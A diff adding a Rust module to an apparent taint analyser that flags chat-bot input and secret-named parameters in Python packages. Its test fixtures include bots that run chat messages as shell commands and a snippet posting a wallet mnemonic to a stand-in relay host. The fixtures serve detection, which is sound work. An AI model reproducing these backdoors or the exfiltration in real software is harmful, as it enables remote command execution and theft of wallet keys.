@@ -1,0 +1,129 @@
+//! What comes from a caller nobody sees: what people write to a chat handler, and parameters that are named as secrets.
+
+use std::rc::Rc;
+
+use ruff_python_ast as ast;
+use ruff_text_size::{Ranged, TextRange};
+
+use crate::heap::{Object, Target};
+use crate::interpreter::Interpreter;
+use crate::names::NameId;
+use crate::value::{Data, Marks, Origin, Value, union};
+
+impl<'a> Interpreter<'a, '_> {
+    /// A handler is given what people elsewhere write: `@bot.command()`, `async def on_message(self, message)`.
+    pub(crate) fn received_by(&mut self, decorators: &[(Value<'a>, TextRange)], node: &'a ast::StmtFunctionDef) -> Option<u32> {
+        let named = node.name.as_str();
+        let handler = format!("handler.{named}");
+        if named.starts_with("on_")
+            && !self.names.table().of(&handler).is_empty()
+            && let Some(id) = self.names.name(&handler)
+            && let Some(source) = self.receiver(id, node.name.range())
+        {
+            return Some(source);
+        }
+        decorators.iter().find_map(|(decorator, range)| match decorator.data {
+            Data::Name(id, _) => self.receiver(id, *range),
+            _ => None,
+        })
+    }
+
+    /// The source that a name is to the functions it is given as handlers, if it is one.
+    pub(crate) fn receiver(&mut self, id: NameId, range: TextRange) -> Option<u32> {
+        let behaviour = self.names.table().id_of("chat.receive")?;
+        if !self.names.behaviours(id).contains(&behaviour) {
+            return None;
+        }
+        let name = self.names.shared(id);
+        self.record_source(behaviour, &name, &[], range)
+    }
+
+    /// What a caller hands over is a secret when its name says so: `mnemonic`, `private_key`.
+    pub(crate) fn secret_parameter(&mut self, value: Value<'a>, name: &str, range: TextRange) -> Value<'a> {
+        if !["key", "mnemonic", "seed", "phrase"].iter().any(|word| name.contains(word)) {
+            return value;
+        }
+        let named = format!("parameter.{}", name.to_ascii_lowercase());
+        if self.names.table().of(&named).is_empty() {
+            return value;
+        }
+        let Some(id) = self.names.name(&named) else { return value };
+        let mut origin = value.origin.clone();
+        let callee = self.names.shared(id);
+        for behaviour in self.names.behaviours(id).to_vec() {
+            if let Some(source) = self.record_source(behaviour, &callee, &[], range) {
+                let marks = Marks { taints: vec![(source, 0)], ..Marks::default() };
+                origin = union(&origin, &Some(Rc::new(marks)));
+            }
+        }
+        Value::from(value.data, origin)
+    }
+
+    /// What is given as a handler is called with what people elsewhere write.
+    pub(crate) fn mark_receiver(&mut self, value: &Value<'a>, source: u32) {
+        let function = match value.data {
+            Data::Function(id) => id,
+            Data::Bound(id) => match &self.heap[id as usize] {
+                Object::Bound(bound) => match bound.target {
+                    Target::Function(function) => function,
+                    _ => return,
+                },
+                _ => return,
+            },
+            _ => return,
+        };
+        if let Some(function) = self.function_mut(function) {
+            function.receives.get_or_insert(source);
+        }
+    }
+
+    /// Without what a caller handed over: it went into something that gives something else.
+    pub(crate) fn without_parameters(&self, origin: Origin) -> Origin {
+        let Some(marks) = &origin else { return origin };
+        let handed = |number: u32| self.records.sources[number as usize].callee.starts_with("parameter.");
+        if !marks.taints.iter().any(|(number, _)| handed(*number)) {
+            return origin;
+        }
+        let mut marks = Marks::clone(marks);
+        marks.taints.retain(|(number, _)| !handed(*number));
+        Some(Rc::new(marks))
+    }
+}
+
+/// Whether an unknown function gives what it is given, in another form; of others nobody knows what they make of it.
+pub(crate) fn carries(name: &str) -> bool {
+    let top = name.split('.').next().unwrap_or_default();
+    matches!(top, "json" | "base64" | "urllib" | "str" | "bytes" | "dict" | "binascii" | "aiohttp" | "requests" | "repr")
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{
+        Role,
+        tests::{analysed, flow, flows},
+    };
+
+    #[test]
+    fn what_a_chat_writes_reaches_what_its_handlers_do() {
+        for source in [
+            "import discord, subprocess\nbot = discord.ext.commands.Bot('!')\n@bot.command()\nasync def sh(ctx, *, cmd):\n \
+             await ctx.send(subprocess.run(cmd, shell=True))\n",
+            "import telebot, os\nb = telebot.TeleBot('t')\n@b.message_handler(func=None)\ndef h(m):\n os.popen(m.text)\n",
+            "import discord, os\nclass C(discord.Client):\n async def on_message(self, message):\n  os.system(message.content)\n",
+            "import os\nfrom telegram.ext import CommandHandler\ndef h(update, context):\n \
+             os.system(update.message.text)\nx = CommandHandler('sh', h)\n",
+        ] {
+            flow(&analysed(Role::Package, source), "chat.receive", "process.spawn");
+        }
+    }
+
+    #[test]
+    fn a_secret_that_is_handed_over_is_a_source_and_a_signature_is_not() {
+        let sent = "import requests\nclass W:\n def a(self, mnemonic):\n  self.b(mnemonic)\n def b(self, p):\n  \
+                    requests.post('https://relay.invalid', json={'p': p})\n";
+        flow(&analysed(Role::Package, sent), "wallet.key", "network.send");
+        let signed = "import requests, jwt\ndef call(private_key):\n \
+                      requests.post('https://relay.invalid', headers={'a': jwt.encode({}, private_key)})\n";
+        assert!(flows(&analysed(Role::Package, signed)).is_empty());
+    }
+}
